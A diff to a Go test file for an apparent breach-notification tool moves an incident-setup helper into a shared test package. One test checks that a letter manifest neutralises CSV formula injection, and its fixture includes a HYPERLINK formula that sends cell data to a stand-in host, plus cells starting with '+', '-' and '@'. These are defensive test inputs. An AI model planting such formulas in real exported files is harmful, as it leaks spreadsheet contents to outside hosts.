@@ -25,29 +25,6 @@ import (
 	"github.com/breachnotice/breachnotice/notify/letter/mailhouse"
 )
 
-var discovered = incident.Date{Time: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)}
-
-// scopedIncident loads accounts from CSV text into an operator's copy and
-// opens and scopes an incident exposing elements.
-func scopedIncident(t testing.TB, st *incident.Store, accounts string, elements ...incident.Element) int64 {
-	t.Helper()
-	ctx := context.Background()
-	if err := st.CreateController(ctx, &incident.Controller{ID: "op", Name: "Operator", From: "n@op.example"}); err != nil {
-		t.Fatal(err)
-	}
-	if res, err := st.ImportAccounts(ctx, strings.NewReader(accounts), incident.ImportOptions{File: "a.csv"}); err != nil || res.Rejected > 0 {
-		t.Fatalf("import: %+v %v", res, err)
-	}
-	inc, err := st.CreateIncident(ctx, incident.NewIncident{ControllerID: "op", Title: "t", Discovered: discovered, Elements: elements})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if _, err := st.ScopeIncident(ctx, inc.ID, incident.ScopeRule{All: true}, nil); err != nil {
-		t.Fatal(err)
-	}
-	return inc.ID
-}
-
 // letterStore opens a store whose journal is the delivery ledger and
 // plans an incident whose people are owed letters.
 func letterStore(t *testing.T) (*incident.Store, int64) {
@@ -59,7 +36,7 @@ func letterStore(t *testing.T) (*incident.Store, int64) {
 		t.Fatal(err)
 	}
 	st.Journal = led
-	id := scopedIncident(t, st, `id,name,email,locale,country,region,postal_line1,postal_line2,city,postal_code,e_consent,status
+	id := storetest.ScopedIncident(t, st, `id,name,email,locale,country,region,postal_line1,postal_line2,city,postal_code,e_consent,status
 l1,Ana García,,es-US,US,CA,1 Main St,Apt 4,Los Angeles,90012,false,active
 l2,Seán O'Brien,,en,US,TX,2 Oak Ave,,Austin,78701,false,active
 l3,Zoë Łukasiewicz,,en,US,NY,3 Elm St,,Albany,12207,false,active
@@ -479,7 +456,7 @@ func twoControllers(t *testing.T) (st *incident.Store, opL, m2L map[string]strin
 	if res, err := st.ImportEnrollments(ctx, strings.NewReader("account_id,course_id\nl1,c1\nl2,c1\n"), incident.ImportOptions{File: "e.csv"}); err != nil || res.Rejected > 0 {
 		t.Fatalf("enrollments: %+v %v", res, err)
 	}
-	inc, err := st.CreateIncident(ctx, incident.NewIncident{ControllerID: "m2", Title: "t2", Discovered: discovered,
+	inc, err := st.CreateIncident(ctx, incident.NewIncident{ControllerID: "m2", Title: "t2", Discovered: storetest.Discovered,
 		Elements: []incident.Element{incident.ElemName, incident.ElemSSN}})
 	if err != nil {
 		t.Fatal(err)
@@ -691,7 +668,7 @@ func TestLetters_MailHouseChecks(t *testing.T) {
 func TestLetters_ManifestNeutralisesEveryCell(t *testing.T) {
 	ctx := context.Background()
 	st := storetest.Open(t)
-	id := scopedIncident(t, st, `id,name,country,region,postal_line1,city,postal_code,e_consent,status
+	id := storetest.ScopedIncident(t, st, `id,name,country,region,postal_line1,city,postal_code,e_consent,status
 "=HYPERLINK(""http://x.example/?""&A1)",Ann,US,CA,1 Main St,Los Angeles,90012,false,active
 +1,@Bob,US,CA,2 Main St,Los Angeles,90012,false,active
 -2,Cy,US,CA,-3 Main St,Los Angeles,90012,false,active
